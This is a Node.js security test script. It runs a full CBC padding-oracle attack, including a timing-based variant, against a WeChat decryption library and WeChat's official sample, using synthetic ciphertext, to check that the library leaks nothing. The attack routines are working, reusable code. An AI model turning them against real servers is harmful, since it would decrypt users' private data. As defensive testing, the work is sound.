#!/usr/bin/env node
// Padding-oracle probe: Vaudenay's CBC padding-oracle attack
// (EUROCRYPT 2002) run against decryptPhone / decryptData / WXBizDataCrypt of
// the built package, and against WeChat's official node:crypto sample, on the
// same getPhoneNumber ciphertext.
//
// The attacker holds a victim's (encryptedData, iv) and can submit forged
// pairs to a server that decrypts them with the victim's session_key and shows
// (or logs, or answers differently on) whatever the library throws. To forge,
// it sends iv = X, encryptedData = C (one block): the server decrypts to
// D(C) xor X. PKCS#7 padding is valid for exactly one value of the last byte
// of X (two, rarely), so an oracle that tells "bad padding" apart from
// anything else yields D(C) one byte at a time, and D(C) xor the previous
// ciphertext block is the plaintext.
//
// The oracle here is generic, it does not look for a word like "padding": an
// outcome is the complete observable fingerprint of a call (the return value,
// or the thrown value's constructor, name, message, code, wxErrCode, stack and
// every other own property). For each byte the attacker tries all 256 guesses
// and takes the guess whose fingerprint is rare (at most 2 of 256) as "valid
// padding". If all 256 fingerprints are equal, the byte cannot be recovered.
//
// Targets:
// - ours: decryptPhone (with appId), decryptData, WXBizDataCrypt#decryptData.
// - official sample, as published: its catch-all throws Error('Illegal Buffer')
//   for bad padding AND for bad JSON; the only other outcome a caller sees is a
//   TypeError when the plaintext is JSON without a watermark. That is a JSON
//   format oracle, not a padding oracle: the probe recovers nothing through it
//   (shown, not assumed).
// - the sample's decipher calls without its catch-all: the same node:crypto
//   calls (createDecipheriv, setAutoPadding(true), update 'binary'→'utf8',
//   final, JSON.parse) with the underlying error surfacing, as in code that
//   copies the sample and logs or rethrows err.message ('bad decrypt' vs a
//   SyntaxError). This is the oracle node:crypto itself offers; the probe
//   recovers the whole plaintext through it, which shows the probe works.
//
// Usage: node tests/security/padding-oracle.mjs   (prints a table; exit 1 if
// a target that must leak nothing leaked, or the reference target did not leak)
import { createCipheriv, createDecipheriv, randomBytes } from 'node:crypto';
import { createRequire } from 'node:module';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { dirname, join } from 'node:path';
import { inspect } from 'node:util';

const here = dirname(fileURLToPath(import.meta.url));
const require = createRequire(import.meta.url);
const OfficialSample = require('../js/support/official-sample.cjs');

export const APPID = 'wx4f4bc4dec97d474b';
const SELF = fileURLToPath(import.meta.url);
export const PHONE = {
  phoneNumber: '13580006666', purePhoneNumber: '13580006666', countryCode: '86',
  watermark: { timestamp: 1477314187, appid: APPID },
};

/** The victim's payload: a phone JSON sealed with node:crypto. */
export function victim(keyBytes = randomBytes(16), ivBytes = randomBytes(16)) {
  const plaintext = Buffer.from(JSON.stringify(PHONE));
  const cipher = createCipheriv('aes-128-cbc', keyBytes, ivBytes);
  const ciphertext = Buffer.concat([cipher.update(plaintext), cipher.final()]);
  const padded = Buffer.concat([plaintext, Buffer.alloc(ciphertext.length - plaintext.length, ciphertext.length - plaintext.length)]);
  return { keyBytes, ivBytes, ciphertext, padded, sessionKey: keyBytes.toString('base64') };
}

/** Everything a caller can observe about one call, as a string (no timing). */
export function fingerprint(fn, { stack = true } = {}) {
  try {
    return 'returned ' + inspect(fn(), { depth: 5, showHidden: true });
  } catch (e) {
    if (!(e instanceof Object)) return 'threw primitive ' + String(e);
    const props = {};
    for (const key of Reflect.ownKeys(e)) if (stack || key !== 'stack') props[String(key)] = String(e[key]);
    // The stack's frames from this file on are the attacker's own call sites
    // (they differ between the probe loop and the disambiguation query): cut.
    if (props.stack) props.stack = props.stack.split('\n').filter((line, i, all) => !all.slice(0, i + 1).some((l) => l.includes(SELF))).join('\n');
    return JSON.stringify({ ctor: e.constructor?.name, proto: Object.getPrototypeOf(e)?.constructor?.name, name: e.name, message: e.message, string: String(e), props });
  }
}

/** Targets: name → (victim, api) → (ivBytes, ctBytes) → fingerprint. */
export const TARGETS = {
  'ours: decryptPhone(appId)': (vic, api, fo) => (iv, ct) => fingerprint(() => api.decryptPhone(vic.sessionKey, ct.toString('base64'), iv.toString('base64'), { appId: APPID }), fo),
  'ours: decryptData': (vic, api, fo) => (iv, ct) => fingerprint(() => api.decryptData(vic.sessionKey, ct.toString('base64'), iv.toString('base64')), fo),
  'ours: WXBizDataCrypt#decryptData': (vic, api, fo) => { const c = new api.WXBizDataCrypt(APPID, vic.sessionKey); return (iv, ct) => fingerprint(() => c.decryptData(ct.toString('base64'), iv.toString('base64')), fo); },
  'official sample, as published': (vic, api, fo) => { const c = new OfficialSample(APPID, vic.sessionKey); return (iv, ct) => fingerprint(() => c.decryptData(ct.toString('base64'), iv.toString('base64')), fo); },
  "the sample's decipher calls, error surfacing": (vic, api, fo) => (iv, ct) => fingerprint(() => {
    // Exactly the sample's calls, minus its try/catch.
    const decipher = createDecipheriv('aes-128-cbc', Buffer.from(vic.sessionKey, 'base64'), iv);
    decipher.setAutoPadding(true);
    let decoded = decipher.update(ct, 'binary', 'utf8');
    decoded += decipher.final('utf8');
    return JSON.parse(decoded);
  }, fo),
};
/** Targets that must leak nothing; the last one must leak (reference). */
export const MUST_NOT_LEAK = Object.keys(TARGETS).slice(0, 4);
export const REFERENCE = "the sample's decipher calls, error surfacing";

/**
 * Vaudenay on one block: sends iv = X, encryptedData = block, with X equal to
 * the previous ciphertext block except for the bytes being forged, so the
 * server decrypts to the real plaintext block with its tail replaced. Byte j
 * (from the end) is found by trying all 256 values of X[j]: the guesses whose
 * outcome differs from the majority outcome are "valid padding". Recovers
 * D(block) xor prev, or stops at the first byte where no single guess stands
 * out. Returns { plaintext (Buffer, or null unless all 16 bytes were
 * recovered), recovered (bytes), queries, distinctAtFirstByte }.
 */
export function attackBlock(query, prev, block) {
  const inter = Buffer.alloc(16);
  let queries = 0, recovered = 0, distinctAtFirstByte = 0;
  for (let pad = 1; pad <= 16; pad++) {
    const j = 16 - pad;
    const x = Buffer.from(prev);
    for (let m = j + 1; m < 16; m++) x[m] = inter[m] ^ pad;
    const byFingerprint = new Map();
    for (let g = 0; g < 256; g++) {
      x[j] = g;
      const f = query(x, block);
      queries++;
      if (!byFingerprint.has(f)) byFingerprint.set(f, []);
      byFingerprint.get(f).push(g);
    }
    if (pad === 1) distinctAtFirstByte = byFingerprint.size;
    const [majority] = [...byFingerprint.entries()].reduce((a, b) => (b[1].length > a[1].length ? b : a));
    let candidates = [...byFingerprint.entries()].filter(([f]) => f !== majority).flatMap(([, gs]) => gs);
    if (candidates.length === 2 && pad === 1) {
      // The unchanged last byte keeps the block's own padding (…02 02 etc.
      // also pass); the guess giving …01 survives a change of the byte before.
      candidates = candidates.filter((g) => {
        const y = Buffer.from(x); y[j] = g; y[j - 1] ^= 0x01;
        queries++;
        return query(y, block) !== majority;
      });
    }
    if (candidates.length !== 1) break;
    inter[j] = candidates[0] ^ pad;
    recovered++;
  }
  const plaintext = Buffer.alloc(16);
  for (let m = 0; m < 16; m++) plaintext[m] = inter[m] ^ prev[m];
  return { plaintext: recovered === 16 ? plaintext : null, recovered, queries, distinctAtFirstByte };
}

/**
 * The same attack where the oracle is the outcome's fingerprint OR its time:
 * each guess is timed `reps` times in two passes (minimum kept,
 * process.hrtime.bigint); a guess whose fingerprint differs from the
 * majority's wins outright (e.g. a forged prefix that happens to be valid
 * JSON, like the digits of a phone number, gives NOT_PHONE_DATA); otherwise
 * the guess whose time stands out from the median by more than `minGapNs` and
 * 4x more than any other guess, confirmed by a second timing. A byte is tried
 * up to 6 times before the attack gives up. Only for non-final blocks (a
 * final block has its own valid padding as a second slow guess). Figures for
 * the script, never a test assertion.
 */
export function attackBlockTiming(query, prev, block, { reps = 5, minGapNs = 1500 } = {}) {
  const call = (x) => { try { query(x, block); } catch { /* the outcome is observed separately */ } };
  const time = (x) => {
    let best = Infinity;
    for (let r = 0; r < reps; r++) {
      const t0 = process.hrtime.bigint();
      call(x);
      const dt = Number(process.hrtime.bigint() - t0);
      if (dt < best) best = dt;
    }
    return best;
  };
  const inter = Buffer.alloc(16);
  let recovered = 0, queries = 0, byTiming = 0, byOutcome = 0;
  for (let i = 0; i < 500; i++) call(prev); // warm-up: the first calls are slow (lazy compilation)
  for (let pad = 1; pad <= 16; pad++) {
    const j = 16 - pad;
    const x = Buffer.from(prev);
    for (let m = j + 1; m < 16; m++) x[m] = inter[m] ^ pad;
    let found = -1;
    // Outcome first: one query per guess.
    const byFingerprint = new Map();
    for (let g = 0; g < 256; g++) { x[j] = g; const f = fingerprint(() => query(x, block), { stack: true }); queries++; byFingerprint.set(f, [...(byFingerprint.get(f) ?? []), g]); }
    const rare = [...byFingerprint.values()].filter((gs) => gs.length === 1);
    if (byFingerprint.size === 2 && rare.length === 1) { found = rare[0][0]; byOutcome++; }
    for (let attempt = 0; found < 0 && attempt < 6; attempt++) {
      const times = new Float64Array(256).fill(Infinity);
      for (let pass = 0; pass < 2; pass++) {
        for (let g = 0; g < 256; g++) { x[j] = g; times[g] = Math.min(times[g], time(x)); queries += reps; }
      }
      const median = Float64Array.from(times).sort()[128];
      const dev = Array.from(times, (t) => Math.abs(t - median));
      const [best, second] = [...dev.keys()].sort((a, b) => dev[b] - dev[a]);
      if (dev[best] < minGapNs || dev[best] < 4 * dev[second]) continue;
      x[j] = best; const a = time(x); x[j] = second; const b = time(x); queries += 2 * reps;
      if (Math.abs(a - b) > minGapNs / 2) { found = best; byTiming++; }
    }
    if (found < 0) break;
    inter[j] = found ^ pad;
    recovered++;
  }
  const plaintext = Buffer.alloc(16);
  for (let m = 0; m < 16; m++) plaintext[m] = inter[m] ^ prev[m];
  return { plaintext: recovered === 16 ? plaintext : null, recovered, queries, inter, byTiming, byOutcome };
}

/**
 * Genie-aided check, the strongest position an attacker could reach: given
 * the true intermediate D(C) (computed with the key, which no attacker has),
 * the forged plaintext is set to '}' (valid UTF-8, never valid JSON) before
 * byte j and to correct padding after it, and all 256 guesses are tried at
 * every position j. Exactly one guess per position has valid padding; it
 * decrypts to "}}}…" (bad JSON), every other guess has bad padding. Returns
 * how many of the 16 positions had more than one distinct outcome (0: this
 * oracle gives nothing, even to a genie) and the distinct outcomes seen.
 */
export function genieCheck(query, vic, blockIndex) {
  const block = vic.ciphertext.subarray(blockIndex * 16, blockIndex * 16 + 16);
  const decipher = createDecipheriv('aes-128-ecb', vic.keyBytes, null).setAutoPadding(false);
  const inter = Buffer.concat([decipher.update(block), decipher.final()]);
  let leakyPositions = 0, queries = 0;
  const outcomes = new Set();
  for (let pad = 1; pad <= 16; pad++) {
    const j = 16 - pad;
    const x = Buffer.alloc(16);
    for (let m = 0; m < j; m++) x[m] = inter[m] ^ 0x7d; // '}'
    for (let m = j + 1; m < 16; m++) x[m] = inter[m] ^ pad;
    const seen = new Set();
    for (let g = 0; g < 256; g++) { x[j] = g; const f = query(x, block); seen.add(f); outcomes.add(f); queries++; }
    if (seen.size !== 1) leakyPositions++;
  }
  return { leakyPositions, queries, outcomes: [...outcomes] };
}

/** Runs the attack on the given blocks of one victim against every target. */
export function probe(api, { blocks, vic = victim() } = {}) {
  const n = vic.ciphertext.length / 16;
  const which = blocks ?? [...Array(n).keys()];
  const results = {};
  for (const [name, make] of Object.entries(TARGETS)) {
    const query = make(vic, api, { stack: true });
    let bytes = 0, fullBlocks = 0, queries = 0, correct = true;
    const text = [];
    let distinct = new Set();
    for (const i of which) {
      const prev = i === 0 ? vic.ivBytes : vic.ciphertext.subarray((i - 1) * 16, i * 16);
      const r = attackBlock(query, prev, vic.ciphertext.subarray(i * 16, i * 16 + 16));
      bytes += r.recovered; queries += r.queries; distinct.add(r.distinctAtFirstByte);
      if (r.plaintext) {
        fullBlocks++;
        if (!r.plaintext.equals(vic.padded.subarray(i * 16, i * 16 + 16))) correct = false;
        text.push(r.plaintext);
      }
    }
    results[name] = { blocks: which.length, fullBlocks, bytes, queries, correct, distinctAtFirstByte: [...distinct], text: Buffer.concat(text) };
  }
  return { vic, results };
}

/** The package through its require entry (pkg/ or WX_PKG_DIR). */
export async function loadPackage() {
  const { entries } = await import(pathToFileURL(join(here, '../js/support/entries.mjs')));
  return entries[0][1]();
}

/** Genie check of every target, with and without err.stack in the fingerprint. */
export function genieAll(api, vic) {
  const last = vic.ciphertext.length / 16 - 1;
  const out = {};
  for (const [name, make] of Object.entries(TARGETS)) {
    out[name] = {
      withStack: genieCheck(make(vic, api, { stack: true }), vic, last),
      withoutStack: genieCheck(make(vic, api, { stack: false }), vic, last),
    };
  }
  return out;
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const api = await loadPackage();
  const { vic, results } = probe(api);
  console.log(`padding-oracle probe: ${vic.ciphertext.length}-byte phone ciphertext (${vic.ciphertext.length / 16} blocks), every block attacked, oracle = full fingerprint of the outcome (incl. err.stack)`);
  console.log('| target | blocks recovered | bytes recovered | queries | distinct outcomes at byte 15 | recovered text |');
  console.log('|---|---:|---:|---:|---:|---|');
  for (const [name, r] of Object.entries(results)) {
    const text = r.fullBlocks ? JSON.stringify(r.text.toString('latin1').replace(/[\x00-\x10]+$/, '')) : '-';
    console.log(`| ${name} | ${r.fullBlocks}/${r.blocks}${r.correct ? '' : ' (WRONG)'} | ${r.bytes} | ${r.queries} | ${r.distinctAtFirstByte.join(', ')} | ${text} |`);
  }
  console.log('\ngenie check (true intermediate known, prefix "}}}…", last block, 16 positions x 256 guesses):');
  console.log('| target | positions leaking, message/code/name/props | positions leaking, incl. err.stack |');
  console.log('|---|---:|---:|');
  const genie = genieAll(api, vic);
  for (const [name, g] of Object.entries(genie)) {
    console.log(`| ${name} | ${g.withoutStack.leakyPositions}/16 | ${g.withStack.leakyPositions}/16 |`);
  }
  if (!process.env.PROBE_NO_TIMING) {
    // Timing oracle, in-process (no network noise): blocks 0..n-2.
    const timingTargets = {
      'ours: decryptPhone(appId)': (x, b) => api.decryptPhone(vic.sessionKey, b.toString('base64'), x.toString('base64'), { appId: APPID }),
      'official sample, as published': (() => { const c = new OfficialSample(APPID, vic.sessionKey); return (x, b) => c.decryptData(b.toString('base64'), x.toString('base64')); })(),
    };
    console.log('\noutcome-or-timing oracle (in-process, min of 2x5 timings per guess; figures, not assertions):');
    console.log('| target | bytes recovered | of which correct | by timing | by outcome | queries | seconds |');
    console.log('|---|---:|---:|---:|---:|---:|---:|');
    for (const [name, call] of Object.entries(timingTargets)) {
      const t0 = Date.now();
      let bytes = 0, correct = 0, queries = 0, byTiming = 0, byOutcome = 0;
      for (let i = 0; i < vic.ciphertext.length / 16 - 1; i++) {
        const prev = i === 0 ? vic.ivBytes : vic.ciphertext.subarray((i - 1) * 16, i * 16);
        const r = attackBlockTiming(call, prev, vic.ciphertext.subarray(i * 16, i * 16 + 16));
        bytes += r.recovered; queries += r.queries; byTiming += r.byTiming; byOutcome += r.byOutcome;
        for (let m = 16 - r.recovered; m < 16; m++) if ((r.inter[m] ^ prev[m]) === vic.padded[i * 16 + m]) correct++;
      }
      console.log(`| ${name} | ${bytes}/${vic.ciphertext.length - 16} | ${correct} | ${byTiming} | ${byOutcome} | ${queries} | ${((Date.now() - t0) / 1000).toFixed(1)} |`);
    }
  }
  let ok = true;
  for (const name of MUST_NOT_LEAK) {
    if (results[name].bytes !== 0 || genie[name].withoutStack.leakyPositions !== 0) ok = false;
    if (genie[name].withStack.leakyPositions !== 0) {
      // The package's own frames (the probe's were cut by fingerprint()).
      const stacks = genie[name].withStack.outcomes.map((o) => (JSON.parse(o).props?.stack ?? '').split('\n').slice(1, 4).map((l) => l.trim()).join(' < '));
      console.log(`  ${name}: err.stack differs between bad padding and bad JSON: ${[...new Set(stacks)].join('  VS  ')}`);
    }
  }
  const ref = results[REFERENCE];
  if (ref.fullBlocks !== ref.blocks || !ref.correct || genie[REFERENCE].withoutStack.leakyPositions !== 16) ok = false;
  console.log(ok ? 'padding-oracle: ours recovers 0 bytes (message, code, name, wxErrCode, props identical); the reference oracle gives the whole plaintext'
    : 'padding-oracle: UNEXPECTED RESULT');
  process.exitCode = ok ? 0 : 1;
}
